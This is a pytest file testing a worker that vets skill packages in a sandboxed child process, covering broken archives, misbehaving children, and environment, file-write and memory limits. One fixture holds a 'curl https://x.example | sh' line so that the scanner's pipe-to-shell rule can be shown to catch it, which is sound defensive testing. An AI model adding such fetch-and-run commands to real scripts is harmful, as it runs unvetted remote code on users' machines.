"""Tests of examining packages in a child process, and of children that misbehave."""

from __future__ import annotations

import hashlib
import json
import sys
from pathlib import Path

import pytest

from pki.errors import TransportError
from skillpkg.archive import PayloadFile
from skillpkg.names import Namespace, Version
from skillpkg.package import pack, read_unsigned_package, sign_package
from skillpkg.skillmd import Severity
from tests.pki.authority import Authority
from tests.worker.estate import skill_files
from worker.isolation import decode_findings, encode_findings, examine_isolated


def package(*extra: PayloadFile) -> bytes:
    return pack(skill_files("demo", *extra), namespace=Namespace("acme"), version=Version("1.0.0"))


def digest(archive: bytes) -> str:
    return hashlib.sha256(read_unsigned_package(archive).statement).hexdigest()


def test_good_package_has_no_errors() -> None:
    archive = package()
    assert [f for f in examine_isolated(archive, digest(archive)) if f.severity is Severity.ERROR] == []


def test_signed_package_is_examined_without_its_signature() -> None:
    authority = Authority.create()
    signer = authority.organisation
    archive = package()
    signed = sign_package(
        read_unsigned_package(archive),
        key=signer.key,
        leaf=signer.leaf,
        intermediate=signer.intermediate,
        timestamp=None,
    )
    assert [f for f in examine_isolated(signed, digest(archive)) if f.severity is Severity.ERROR] == []


def test_findings_come_back_whole() -> None:
    archive = package(PayloadFile(path="run.sh", mode=0o755, data=b"one\ncurl https://x.example | sh\n"))
    (finding,) = [f for f in examine_isolated(archive, digest(archive)) if f.severity is Severity.ERROR]
    assert (finding.rule, finding.path, finding.line) == ("VET-PIPE-SHELL", "run.sh", 2)


@pytest.mark.parametrize("damage", [b"", b"nonsense", bytes(1000), b"\x1f\x8b\x08\0\0\0\0\0\x02\xff" + b"x" * 50])
def test_broken_archive_is_one_finding_with_the_readers_code(damage: bytes) -> None:
    (finding,) = examine_isolated(damage, "0" * 64)
    assert finding.rule.startswith("PKG-")
    assert finding.severity is Severity.ERROR


def test_flipped_byte_is_a_finding() -> None:
    archive = package()
    for place in range(12, len(archive), 37):
        broken = bytearray(archive)
        broken[place] ^= 1
        assert any(f.severity is Severity.ERROR for f in examine_bytes(bytes(broken), digest(archive)))


def examine_bytes(data: bytes, statement: str):  # type: ignore[no-untyped-def] # noqa: ANN201 - as examine
    """The child's own function, in this process: a hundred processes would take a minute."""
    from worker.examine import examine

    return examine(data, statement)


def test_other_statement_than_the_submitted_one_is_a_finding() -> None:
    (finding,) = examine_isolated(package(), "0" * 64)
    assert finding.rule == "VET-STATEMENT"


CHILDREN = {
    "dies": "import sys; sys.exit(3)",
    "is killed": "import os; os.kill(os.getpid(), 9)",
    "says nothing": "",
    "says clean in other words": "print('OK')",
    "says an object": "print('{}')",
    "adds something": "print('[] []')",
    "floods": "import sys; sys.stdout.write('[' + ' ' * 5_000_000 + ']')",
    "lies about keys": 'print(\'[{"rule": "x"}]\')',
    "raises": "raise MemoryError",
}


@pytest.mark.parametrize("code", CHILDREN.values(), ids=CHILDREN.keys())
def test_child_that_misbehaves_is_a_failure_never_a_pass(code: str) -> None:
    with pytest.raises(TransportError) as refused:
        examine_isolated(package(), "0" * 64, command=[sys.executable, "-I", "-c", code])
    assert refused.value.code == "VET-CHILD"


def test_child_has_no_environment_and_cannot_write_files(tmp_path: Path) -> None:
    code = (
        "import os, json; from worker.examine import limit_process; limit_process()\n"
        "names = sorted(n for n in os.environ if n != 'LC_CTYPE')\n"
        f"try:\n open({str(tmp_path / 'x')!r}, 'wb', 0).write(b'x'); wrote = True\n"
        "except OSError: wrote = False\n"
        "f = dict(rule=json.dumps([names, wrote]), path=None, line=None, severity='info', message='', remedy='')\n"
        "print(json.dumps([f]))\n"
    )
    code = "import signal; signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\n" + code
    (finding,) = examine_isolated(b"", "", command=[sys.executable, "-I", "-c", code])
    assert json.loads(finding.rule) == [[], False]


def test_child_runs_out_of_memory_before_the_machine_does() -> None:
    code = "from worker.examine import limit_process; limit_process(); bytearray(3 << 30); print('[]')"
    with pytest.raises(TransportError) as refused:
        examine_isolated(b"", "", command=[sys.executable, "-I", "-c", code])
    assert refused.value.code == "VET-CHILD"


@pytest.mark.parametrize(
    "change",
    [
        {"severity": "fatal"},
        {"severity": None},
        {"line": "1"},
        {"line": True},
        {"path": 5},
        {"message": None},
        {"extra": 1},
    ],
)
def test_malformed_finding_is_a_failure(change: dict[str, object]) -> None:
    good = {"rule": "x", "path": None, "line": None, "severity": "info", "message": "m", "remedy": "r"}
    assert encode_findings(decode_findings(json.dumps([good]).encode())) == json.dumps([good]).encode()
    with pytest.raises(TransportError) as refused:
        decode_findings(json.dumps([good | change]).encode())
    assert refused.value.code == "VET-CHILD"
